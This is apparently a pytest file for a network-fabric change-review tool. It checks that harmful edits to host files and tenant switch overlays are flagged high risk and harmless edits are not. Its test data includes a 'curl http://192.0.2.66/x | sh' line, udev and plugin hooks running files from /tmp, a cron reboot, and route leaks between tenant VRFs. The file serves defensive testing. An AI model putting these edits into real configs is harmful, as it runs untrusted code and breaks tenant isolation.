# ruff: noqa: E501  (an edit is one line)
"""Pull requests about tenants, host files and files for jobs: harmful ones are red, harmless ones are not."""

from __future__ import annotations

import re
import shutil
from functools import cache
from hashlib import sha256
from pathlib import Path
from tempfile import mkdtemp
from typing import TYPE_CHECKING, NamedTuple

import pytest

from fabricc.base.values import replace
from fabricc.compiler.driver import build_tree
from fabricc.proof.tree import read_manifest
from fabricc.review.diff.model import BESIDE, Impact
from fabricc.review.diff.review_policy import Policy, policy_violations
from fabricc.review.diff.wording import review_labels
from fabricc.tree.manifest import NAME
from tests.review.diff.conftest import INVENTORIES, compare_specs
from tests.tenanted import UNVERIFIED, spec_text

if TYPE_CHECKING:
    from fabricc.review.diff.model import Review

RED = ("medium", "high")
NETPLAN, NCCL, APPLY = "etc/netplan/60-fabricc.yaml", "etc/nccl.conf", "apply"
ROCE, UNIT = "usr/local/sbin/fabricc-roce", "etc/systemd/system/fabricc-roce@.service"

HARMFUL_HOST_FILES = {
    "a smaller MTU": (NETPLAN, r"mtu: \d+", "mtu: 1500"),
    "DHCP on the rails": (NETPLAN, r"dhcp4: false", "dhcp4: true"),
    "boot waits for a rail": (NETPLAN, r"optional: true", "optional: false"),
    "the main routing table": (NETPLAN, r"table: 100", "table: 254"),
    "rules behind the main table": (NETPLAN, r"priority: 1000", "priority: 40000"),
    "router advertisements": (NETPLAN, r"accept-ra: false", "accept-ra: true"),
    "a bridge over a rail": (NETPLAN, r"\Z", "  bridges:\n    br0: {interfaces: [rail0]}\n"),
    "a port stays down": (NETPLAN, r"(^ +)(mtu: \d+)", r"\1\2\n\1activation-mode: off"),
    "another network daemon": (NETPLAN, r"^network:", "network:\n  renderer: NetworkManager"),
    "a second netplan file": ("etc/netplan/70-more.yaml", "", "network: {version: 2, ethernets: {eno1: {dhcp4: true}}}\n"),
    "no RDMA for jobs": (NCCL, r"\Z", "NCCL_IB_DISABLE=1\n"),
    "fewer adapters for jobs": (NCCL, r"NCCL_IB_HCA=.*", "NCCL_IB_HCA==mlx5_r0:1"),
    "jobs in the default class": (NCCL, r"NCCL_IB_TC=\d+", "NCCL_IB_TC=0"),
    "a fixed GID index": (NCCL, r"\Z", "NCCL_IB_GID_INDEX=0\n"),
    "another plugin": (NCCL, r"\Z", "NCCL_NET_PLUGIN=/tmp/x.so\n"),
    "sockets for jobs": (NCCL, r"\Z", "NCCL_NET=Socket\n"),
    "a short timeout": (NCCL, r"\Z", "NCCL_IB_TIMEOUT=5\n"),
    "little locked memory": ("etc/security/limits.d/90-rdma.conf", "unlimited", "64"),
    "a module less": ("etc/modules-load.d/fabricc.conf", r"^rdma_ucm\n", ""),
    "another module": ("etc/modules-load.d/fabricc.conf", r"\Z", "siw\n"),
    "apply does nothing": (APPLY, r"^(set -e.*)$", r"\1\nexit 0"),
    "apply runs a program of others": (APPLY, r"\Z", "curl http://192.0.2.66/x | sh\n"),
    "PFC off in the script": (ROCE, r"\Z", "mlnx_qos -i rail0 --pfc 0,0,0,0,0,0,0,0\n"),
    "another program in the unit": (UNIT, r"ExecStart=.*", "ExecStart=/bin/true"),
    "a program by udev": ("etc/udev/rules.d/70-fabricc-roce.rules", r"\Z", 'ACTION=="add", RUN+="/tmp/x"\n'),
    "a cron table": ("etc/cron.d/x", "", "* * * * * root reboot\n"),
    "a second sysctl file": ("etc/sysctl.d/95-x.conf", "", "net.ipv4.conf.all.arp_ignore=0\n"),
}  # fmt: skip
HARMLESS_HOST_FILES = {
    "a comment in netplan": (NETPLAN, r"\A", "# owned by the network team\n"),
    "a comment for NCCL": (NCCL, r"\Z", "# see the runbook\n"),
    "more log lines of NCCL": (NCCL, r"\Z", "NCCL_DEBUG=INFO\nNCCL_DEBUG_SUBSYS=INIT,NET\n"),
    "a blank line": (NCCL, r"\Z", "\n"),
}
JOB_FILES = {
    "a launch script": ("jobs/launch/mpirun.sh", "program"),
    "the acceptance test": ("acceptance/run.py", "program"),
    "settings of jobs": ("jobs/nccl.conf", BESIDE),
    "the topology of Slurm": ("jobs/slurm/topology.conf", BESIDE),
}


@cache
def _lab_tree() -> Path:
    folder = Path(mkdtemp(prefix="fabricc-lab-"))
    shutil.copytree(INVENTORIES / "lab-smallest", folder / "lab")
    result, _ = build_tree(folder / "lab" / "cluster.yaml", folder / "out", jobs=1)
    assert result.tree is not None
    return result.tree


def _edit_copy(folder: Path, files: tuple[str, ...], pattern: str, new: str) -> Path:
    """Return a copy of the tree with an edit of files, or new ones, and a manifest that agrees."""
    tree = folder / _lab_tree().name
    shutil.copytree(_lab_tree(), tree)
    manifest = read_manifest(tree)
    digests = dict(manifest.files)
    for name in files:
        path = tree / name
        before = path.read_text("utf-8") if path.exists() else ""
        after = re.sub(pattern, new, before, flags=re.MULTILINE) if pattern else new
        assert after != before, name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(after, "utf-8")
        digests[name] = sha256(after.encode()).hexdigest()
    (tree / NAME).write_bytes(b"".join(replace(manifest, files=digests).parts()))
    return tree


def _review_hosts(folder: Path, file: str, pattern: str, new: str) -> Review:
    hosts = sorted(path.name for path in (_lab_tree() / "hosts").iterdir())
    return compare_specs(
        _lab_tree(), _edit_copy(folder, tuple(f"hosts/{host}/{file}" for host in hosts), pattern, new)
    )


@pytest.mark.spread
@pytest.mark.parametrize("kind", HARMFUL_HOST_FILES)
def test_a_harmful_edit_of_a_host_file_is_red(kind: str, tmp_path: Path) -> None:
    assert _review_hosts(tmp_path, *HARMFUL_HOST_FILES[kind]).risk == "high"


@pytest.mark.spread
@pytest.mark.parametrize("kind", HARMLESS_HOST_FILES)
def test_a_harmless_edit_of_a_host_file_is_not_red(kind: str, tmp_path: Path) -> None:
    assert _review_hosts(tmp_path, *HARMLESS_HOST_FILES[kind]).risk in ("none", "low")


@pytest.mark.spread
@pytest.mark.parametrize("kind", JOB_FILES)
def test_two_trees_that_differ_beside_their_devices_say_so(kind: str, tmp_path: Path) -> None:
    path, role = JOB_FILES[kind]
    review = compare_specs(_lab_tree(), _edit_copy(tmp_path, (path,), r"\Z", "# x\n"))
    assert [each.role for each in review.control_files] == [role]
    assert "fabric:control-files" in review_labels(review)
    assert "fabric:no-change" not in review_labels(review)
    policy = Policy(require_label_for_control_files="reviewed")
    assert [each.code for each in policy_violations([policy], review, frozenset(), "")] == ["FAB9042"]


class Edit(NamedTuple):
    """An overlay on ToRs (or spines): lines that it adds and lines that it removes."""

    nos: str
    adds: str = ""
    removes: str = ""
    into: str = ""
    tier: str = "tor"


def _bgp_lines(line: str, family: str = "l2vpn evpn", vrf: str = " vrf acme") -> str:
    return f"router bgp *{vrf}\n address-family {family}\n  {line}\n"


def _nvue_lines(path: str, value: str) -> str:
    """Return lines of NVUE that set a path."""
    keys = path.split("/")
    lines = [f"{'  ' * number}  {key}:" for number, key in enumerate(keys, 1)]
    return "- set:\n" + "\n".join(lines) + f" {value}\n"


_FRR, _ROUTES = "frr.conf", "ip route 10.0.0.0/24 acme nexthop-vrf acme\n"
HARMFUL_TENANTS = {
    "imports of another tenant, FRR": Edit("frr", _bgp_lines("route-target import 65000:20002"), into=_FRR),
    "exports as another tenant, FRR": Edit("frr", _bgp_lines("route-target export 65000:20002"), into=_FRR),
    "a VRF imports another, FRR": Edit("frr", _bgp_lines("import vrf globex", "ipv4 unicast"), into=_FRR),
    "a route into another VRF, FRR": Edit("frr", "vrf acme\n ip route 10.0.0.2/31 globex nexthop-vrf globex\n", into=_FRR),
    "a route from the fabric to a tenant, FRR": Edit("frr", _ROUTES, into=_FRR),
    "links are not announced, FRR": Edit("frr", "", _bgp_lines("advertise ipv4 unicast"), _FRR),
    "no map on EVPN routes, FRR": Edit("frr", "", _bgp_lines("neighbor UPSTREAM-V4 route-map EVPN-TO-UPSTREAM out", vrf=""), _FRR),
    "no EVPN at the spines, FRR": Edit("frr", "", _bgp_lines("neighbor * activate", vrf=""), _FRR, "spine"),
    "the outer header has no code point, FRR": Edit("frr", "", "iface vni20001\n    up ip link set dev vni20001 type vxlan tos inherit\n", "interfaces"),
    "another VNI, FRR": Edit("frr", "vrf acme\n vni 20009\n", "vrf acme\n vni 20001\n", _FRR),
    "imports of another tenant, EOS": Edit("eos", "router bgp *\n   vrf acme\n      route-target import evpn 65000:20002\n"),
    "a route into another VRF, EOS": Edit("eos", "ip route vrf acme 10.0.0.2/31 egress-vrf globex Ethernet9/1 10.0.0.3\n"),
    "marks stay outside, EOS": Edit("eos", "", "interface Vxlan1\n   vxlan qos ecn propagation\n"),
    "no code points in tunnels, EOS": Edit("eos", "", "interface Vxlan1\n   vxlan qos dscp propagation encapsulation\n"),
    "a VRF is not routed, EOS": Edit("eos", "", "ip routing vrf acme\n"),
    "the tunnel interface is shut, EOS": Edit("eos", "interface Vxlan1\n   shutdown\n"),
    "another port of VXLAN, EOS": Edit("eos", "interface Vxlan1\n   vxlan udp-port 8472\n", "interface Vxlan1\n   vxlan udp-port 4789\n"),
    "imports of another tenant, NX-OS": Edit("nxos", "vrf context acme\n  address-family ipv4 unicast\n    route-target import 65000:20002 evpn\n"),
    "a route into another VRF, NX-OS": Edit("nxos", "vrf context acme\n  ip route 10.0.0.2/31 Ethernet1/9 10.0.0.3 vrf globex\n"),
    "the tunnel interface is shut, NX-OS": Edit("nxos", "interface nve1\n  shutdown\n", "interface nve1\n  no shutdown\n"),
    "the tunnel interface is not brought up, NX-OS": Edit("nxos", "", "interface nve1\n  no shutdown\n"),
    "no VXLAN, NX-OS": Edit("nxos", "", "feature nv overlay\n"),
    "spines keep no EVPN routes, NX-OS": Edit("nxos", "", "router bgp *\n  address-family l2vpn evpn\n    retain route-target all\n", tier="spine"),
    "spines change next hops, NX-OS": Edit("nxos", "", "route-map * permit *\n  set ip next-hop unchanged\n", tier="spine"),
    "imports of another tenant, SONiC": Edit("sonic", "router bgp * vrf Vrfacme\n address-family l2vpn evpn\n  route-target import 65000:20002\n", into=_FRR),
    "a route into another VRF, SONiC": Edit("sonic", '{"STATIC_ROUTE": {"Vrfacme|10.0.0.2/31": {"nexthop-vrf": "Vrfglobex", "ifname": "Ethernet64", "nexthop": "10.0.0.3"}}}', into="config_db.json"),
    "a port in the VLAN of a tenant, SONiC": Edit("sonic", '{"VLAN_MEMBER": {"Vlan2|Ethernet240": {"tagging_mode": "untagged"}}}', into="config_db.json"),
    "a VRF falls back to the fabric, SONiC": Edit("sonic", '{"VRF": {"Vrfacme": {"fallback": "true"}}}', into="config_db.json"),
    "imports of another tenant, Cumulus": Edit("cumulus", _nvue_lines("vrf/acme/router/bgp/route-import/from-evpn/route-target/'65000:20002'", "{}")),
    "a VRF imports another, Cumulus": Edit("cumulus", _nvue_lines("vrf/acme/router/bgp/address-family/ipv4-unicast/route-import/from-vrf/list/globex", "{}")),
    "tunnels derive code points, Cumulus": Edit("cumulus", _nvue_lines("nve/vxlan/decapsulation/dscp/action", "derive"), _nvue_lines("nve/vxlan/decapsulation/dscp/action", "null")),
    "another source of tunnels, Cumulus": Edit("cumulus", _nvue_lines("nve/vxlan/source/address", "192.0.2.99"), _nvue_lines("nve/vxlan/source/address", "null")),
}  # fmt: skip
HARMLESS_TENANTS = {
    "a description of the VRF, EOS": Edit("eos", "vrf instance acme\n   description customer 12\n"),
    "a description of the tunnel interface, EOS": Edit(
        "eos", "interface Vxlan1\n   description tunnels of tenants\n"
    ),
    "a description of the VRF, NX-OS": Edit("nxos", "vrf context acme\n  description customer 12\n"),
    "a description of the tunnel interface, NX-OS": Edit(
        "nxos", "interface nve1\n  description tunnels of tenants\n"
    ),
}
_ENDINGS = {"eos": "cfg", "nxos": "cfg", "frr": "conf", "cumulus": "yaml", "sonic": "json"}
_LAB = (
    "accept: [{code: FAB5201, reason: a lab without an ASIC}, {code: FAB3319, reason: one ToR was tested}]\n"
)


def _write_spec(folder: Path, edit: Edit | None, nos: str) -> Path:
    folder.mkdir()
    text = spec_text(nos, more="" if nos in UNVERIFIED else f"\n{_LAB}")
    entries = ""
    for name, lines, more in (
        (("without", edit.removes, ", removes: true"), ("with", edit.adds, "")) if edit else ()
    ):
        if lines:
            into = f", into: {edit.into}" if edit.into else ""
            name += f".{'conf' if edit.into == _FRR else _ENDINGS[nos]}"
            (folder / name).write_text(lines, "utf-8")
            entries += f"  - {{file: {name}, nos: {nos}{into}, tiers: [{edit.tier}]{more}}}\n"
    (folder / "cluster.yaml").write_text(text + ("overlays:\n" + entries if entries else ""), "utf-8")
    return folder / "cluster.yaml"


def _review_tenants(folder: Path, edit: Edit) -> Review:
    return compare_specs(
        _write_spec(folder / "base", None, edit.nos), _write_spec(folder / "head", edit, edit.nos)
    )


@pytest.mark.spread
@pytest.mark.parametrize("kind", HARMFUL_TENANTS)
def test_a_harmful_overlay_about_tenants_is_red(kind: str, tmp_path: Path) -> None:
    review = _review_tenants(tmp_path, HARMFUL_TENANTS[kind])
    assert review.risk == "high"
    violations = policy_violations([Policy(max_impact=Impact.SESSION_RESET)], review, frozenset(), "")
    assert [each.code for each in violations] == ["FAB9012"]


@pytest.mark.spread
@pytest.mark.parametrize("kind", HARMLESS_TENANTS)
def test_a_harmless_overlay_about_tenants_is_not_red(kind: str, tmp_path: Path) -> None:
    assert _review_tenants(tmp_path, HARMLESS_TENANTS[kind]).risk == "low"
